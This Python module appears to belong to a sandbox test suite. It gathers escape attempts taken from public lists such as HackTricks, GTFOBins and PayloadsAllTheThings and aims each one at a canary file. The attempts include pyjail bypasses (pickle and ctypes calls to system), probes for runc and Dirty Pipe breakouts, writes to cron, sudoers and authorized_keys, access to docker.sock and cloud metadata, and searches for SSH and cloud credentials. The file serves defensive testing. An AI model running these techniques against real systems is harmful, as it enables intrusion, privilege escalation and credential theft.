"""Ways out of the kinds that public lists collect, a table for each; written anew, to reach what lies outside of ours.
HackTricks' two pages and part of the Pyjail Cheatsheet were gone through; the other lists were not.

Most tricks of the lists on Python get `open` or a shell where a filter on the language has taken them away. There is no
such filter in the sandbox: each of them works, and finds nothing that it could open. `PLAIN` and `OTHER` as in
`sandbox_attempts`.
"""

from __future__ import annotations

# By title: the lists whose kinds of tricks these are.
SOURCES = {
    "HackTricks: Bypass Python sandboxes": "https://book.hacktricks.wiki",
    "Pyjail Cheatsheet": "https://github.com/Shirajuki/shirajuki.github.io",
    "jailctf/pyjail-collection": "https://github.com/jailctf/pyjail-collection",
    "HackTricks: Docker breakout and sensitive mounts": "https://book.hacktricks.wiki",
    "PayloadsAllTheThings: Linux privilege escalation": "https://github.com/swisskyrepo/PayloadsAllTheThings",
    "GTFOBins": "https://gtfobins.github.io",
}

# What was read counts where it is the canary's text.
LEAK = """
import re
def leak(text):
    text = text.decode() if isinstance(text, bytes) else text
    if re.search('[0-9a-f]{32}', text):
        print(text, 'ESCAPED')
"""
OUT = "leak(open('out').read())"

# HackTricks: Bypass Python sandboxes.
HACKTRICKS_PYTHON = {
    "os out of sys.modules": "import sys; leak(sys.modules['os'].popen('cat ' + W['canary']).read())",
    "os by importlib": "import importlib; leak(importlib.import_module('os').popen('cat ' + W['canary']).read())",
    "a shell by subprocess": """
import subprocess
leak(subprocess.run('cat ' + W['canary'], shell=True, capture_output=True).stdout)
""",
    "a shell on a terminal of its own": """
import pty
pty.spawn(['sh', '-c', f"cat {W['canary']} && printf %s%s ESC APED"])
""",
    "code in base64": """
import base64
exec(base64.b64decode(base64.b64encode(b"leak(open(W['canary']).read())")))
""",
    "code in UTF-7": """
import sys
code = f"# -*- coding: utf_7 -*-\\n#+AAo-text = open({W['canary']!r}).read()\\n"
open('hidden.py', 'w').write(code)
sys.path.insert(0, '')
import hidden
leak(hidden.text)
""",
    "code by timeit": "import timeit; timeit.timeit(\"leak(open(W['canary']).read())\", number=1, globals=globals())",
    "calls by decorators": """
@leak
@(lambda file: file.read())
@open
@(lambda kind: W['canary'])
class Nothing: pass
""",
    "a call by an operator": """
class Jail:
    __getitem__ = exec
Jail()["leak(open(W['canary']).read())"]
""",
    "a call by a metaclass": """
class Meta(type):
    __getitem__ = exec
class Jail(metaclass=Meta): pass
Jail["leak(open(W['canary']).read())"]
""",
    "a call by an exception": """
class Jail(Exception):
    __add__ = exec
try:
    raise Jail
except Jail as jail:
    jail + "leak(open(W['canary']).read())"
""",
    "a call by the hook for exceptions": """
import sys
sys.excepthook = lambda *_: leak(open(W['canary']).read())
1 / 0
""",
    "a file as the license": """
import contextlib, io
license._Printer__filenames = [W['canary']]
with contextlib.redirect_stdout(io.StringIO()) as said:
    license()
leak(said.getvalue())
""",
    "a class below object": """
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == '_wrap_close':
        leak(kind.__init__.__globals__['popen']('cat ' + W['canary']).read())
""",
    "a module's loader": """
(loader,) = [kind for kind in object.__subclasses__() if kind.__name__ == 'FileLoader']
leak(loader.get_data(loader('x', '.'), W['canary']))
""",
    "builtins out of a frame": "leak((_ for _ in ()).gi_frame.f_builtins['open'](W['canary']).read())",
    "builtins out of a function": "leak(print.__self__.open(W['canary']).read())",
    "a function with other code": """
def innocent(): pass
innocent.__code__ = compile("leak(open(W['canary']).read())", 'x', 'exec')
innocent()
""",
    "a pickle that calls": """
import os, pickle
class Calls:
    def __reduce__(self):
        return os.system, (f"cat {W['canary']} > out",)
pickle.loads(pickle.dumps(Calls()))
"""
    + OUT,
    "the C library": "import ctypes; ctypes.CDLL(None).system(f\"cat {W['canary']} > out\".encode())\n" + OUT,
}

# Pyjail Cheatsheet, jailctf/pyjail-collection.
PYJAILS = {
    "a file by another file's class": "leak(open('own', 'w+').buffer.raw.__class__(W['canary']).read())",
    "a line of a source file": "import linecache; leak(linecache.getline(W['canary'], 1))",
    "a process below the audit hooks": """
import multiprocessing.util, os
child = multiprocessing.util.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', f"cat {W['canary']} > out".encode()], [])
os.waitpid(child, 0)
"""
    + OUT,
    "the browser of antigravity": """
import os
os.environ['BROWSER'] = f'/bin/sh -c "cat {W["canary"]} > out" #%s'
import antigravity
"""
    + OUT,
    "the hook of breakpoint": """
import os
os.environ['PYTHONBREAKPOINT'] = 'os.system'
breakpoint(f"cat {W['canary']} > out")
"""
    + OUT,
    "an interpreter that runs what it is told": """
import os, subprocess
open('start.py', 'w').write(f"print(open({W['canary']!r}).read())")
environment = {**os.environ, 'PYTHONSTARTUP': os.getcwd() + '/start.py'}
leak(subprocess.run([W['program'], '-i'], stdin=subprocess.DEVNULL, env=environment, capture_output=True).stdout)
""",
}
PYJAILS_OTHER = {
    "the history of readline": """
import readline
readline.read_history_file(W['canary'])
leak(readline.get_history_item(1) or '')
""",
    "a traceback that quotes a file": "exec(compile('1 / 0', W['canary'], 'exec'))",
    "a syntax error that quotes a file": "raise SyntaxError('x', (W['canary'], 1, 1, None))",
    "a file of the start of later interpreters": """
import os
for name in ('/.callboard-planted', '/.pythonrc.py', '/.local/lib/callboard-planted'):
    os.makedirs(os.path.dirname(W['home'] + name), exist_ok=True)
    open(W['home'] + name, 'a').close()
    print('ESCAPED')
""",
}

# HackTricks: Docker breakout and sensitive mounts.
CONTAINERS = {
    "programs that the kernel starts": """
for path in ('/proc/sys/kernel/modprobe', '/proc/sys/kernel/hotplug', '/proc/sys/fs/binfmt_misc/register',
             '/sys/kernel/uevent_helper', '/proc/sys/vm/panic_on_oom', '/proc/sys/kernel/core_pattern'):
    try:
        open(path, 'ab').close()
        print('ESCAPED', path)
    except OSError:
        pass
""",
    "what the kernel tells of itself": """
import os
for path in ('/proc/config.gz', '/proc/sched_debug', '/proc/timer_list', '/proc/kmsg', '/proc/modules', '/proc/iomem',
             '/proc/slabinfo', '/proc/cmdline', '/sys/kernel/vmcoreinfo', '/sys/kernel/notes'):
    try:
        os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1)
        print('ESCAPED', path)
    except OSError:
        pass
""",
    "folders of the kernel": """
import os
for path in ('/sys/kernel/debug', '/sys/kernel/tracing', '/sys/kernel/security', '/sys/firmware/efi/efivars',
             '/sys/fs/bpf', '/sys/fs/cgroup', '/proc/acpi', '/proc/scsi', '/var/lib/docker', '/var/lib/kubelet'):
    try:
        os.listdir(path)
        print('ESCAPED', path)
    except OSError:
        pass
""",
    "sockets of those that run containers": """
import socket
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
             '/var/run/crio/crio.sock', '/var/run/kubelet.sock', '/run/systemd/private', '/run/dbus/system_bus_socket'):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print('ESCAPED', path)
    except OSError:
        pass
""",
    "a folder that was left open (CVE-2024-21626)": """
import os
for number in range(64):
    for place in (f'/proc/self/fd/{number}', f'/proc/1/fd/{number}'):
        try:
            os.chdir(place)
            print(open('../' * 20 + W['canary'].lstrip('/')).read(), 'ESCAPED')
        except OSError:
            pass
""",
    "the program that holds it (CVE-2019-5736)": """
import os
for path in ('/proc/self/exe', '/proc/1/exe', f"/proc/{os.getppid()}/exe", os.path.realpath('/proc/self/exe')):
    for how in (os.O_WRONLY, os.O_WRONLY | os.O_TRUNC, os.O_RDWR | os.O_APPEND):
        try:
            os.open(path, how)
            print('ESCAPED', path)
        except OSError:
            pass
""",
    "pages of a file by a pipe (CVE-2022-0847)": """
import os
open('own', 'w').write('a' * 4096)
inward, outward = os.pipe()
for _ in range(16):  # buffers that may be merged with
    os.write(outward, b'x' * 4096)
    os.read(inward, 4096)
os.splice(os.open('own', os.O_RDONLY), outward, 1, offset_src=0)
os.write(outward, b'b')
if 'b' in open('own').read():
    print('ESCAPED')
""",
    "the namespaces of others by programs": """
import subprocess
for command in (['nsenter', '-t', '1', '-a'], ['nsenter', '-t', str(W['victim']), '-m'], ['unshare', '-Urm'],
                ['chroot', '/proc/1/root'], ['setpriv', '--reuid', '0'], ['capsh', '--']):
    try:
        print(subprocess.run([*command, 'cat', W['canary']], capture_output=True, timeout=10).stdout.decode())
    except OSError:
        pass
""",
    "the metadata of a cloud": """
import socket, urllib.request
for address in ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'):
    try:
        socket.create_connection((address, 80), 0.5)
        print('ESCAPED', address)
    except OSError:
        pass
""",
}

# GTFOBins: programs that read, write or run for another.
PROGRAMS = {
    "read by any program": """
import subprocess
for command in (
    ['awk', '{print}', W['canary']], ['sed', '', W['canary']], ['dd', 'if=' + W['canary']], ['od', W['canary']],
    ['base64', W['canary']], ['sort', W['canary']], ['diff', '/dev/null', W['canary']], ['cp', W['canary'], 'out'],
    ['tar', '-cf', '-', W['canary']], ['find', W['canary'], '-exec', 'cat', '{}', ';'], ['xargs', '-a', W['canary']],
    ['grep', '', W['canary']], ['env', 'cat', W['canary']], ['timeout', '5', 'cat', W['canary']],
    ['perl', '-pe', '', W['canary']], ['bash', '-c', 'echo $(<$0)', W['canary']], ['ln', W['canary'], 'linked'],
):
    try:
        leak(subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10).stdout)
    except OSError:
        pass
""",
}

# PayloadsAllTheThings: Linux privilege escalation.
PRIVILEGES = {
    "files that others run": """
for path in ('/etc/cron.d/callboard', '/etc/crontab', '/var/spool/cron/crontabs/root', '/etc/ld.so.preload',
             '/etc/sudoers', '/etc/profile.d/callboard.sh', '/etc/passwd', '/etc/systemd/system/callboard.service',
             W['home'] + '/.bashrc', W['home'] + '/.ssh/authorized_keys', '/usr/local/bin/callboard-planted'):
    try:
        open(path, 'ab').close()
        print('ESCAPED', path)
    except OSError:
        pass
""",
    "services that run things for others": """
import subprocess
for command in (['systemd-run', '--user', 'true'], ['systemd-run', 'true'], ['at', 'now'], ['crontab', '-l'],
                ['sudo', '-n', 'true'], ['pkexec', 'true'], ['docker', 'ps'], ['newgrp', 'root'], ['su', '-c', 'true']):
    try:
        if subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10).returncode == 0:
            print('ESCAPED', command)
    except OSError:
        pass
""",
    "secrets that lie about": """
import glob, os
for pattern in ('/home/*/.ssh/*', '/root/.ssh/*', '/root/.bash_history', '/etc/ssh/*key', '/var/log/*.log',
                '/var/mail/*', '/var/run/secrets/*', '/etc/krb5.keytab', '/proc/[0-9]*/environ',
                *(W['home'] + name for name in ('/.aws', '/.netrc', '/.config', '/.gnupg', '/.kube', '/.bash*'))):
    for path in glob.glob(pattern):
        if path.startswith('/proc/') and int(path.split('/')[2]) not in (W['host'], W['victim']):
            continue
        try:
            open(path).read(1) if not os.path.isdir(path) else os.listdir(path)
            print('ESCAPED', path)
        except OSError:
            pass
""",
}

LISTED_PLAIN = {name: LEAK + code for name, code in {**HACKTRICKS_PYTHON, **PYJAILS, **PROGRAMS}.items()}
LISTED_OTHER = {name: LEAK + code for name, code in {**PYJAILS_OTHER, **CONTAINERS, **PRIVILEGES}.items()}
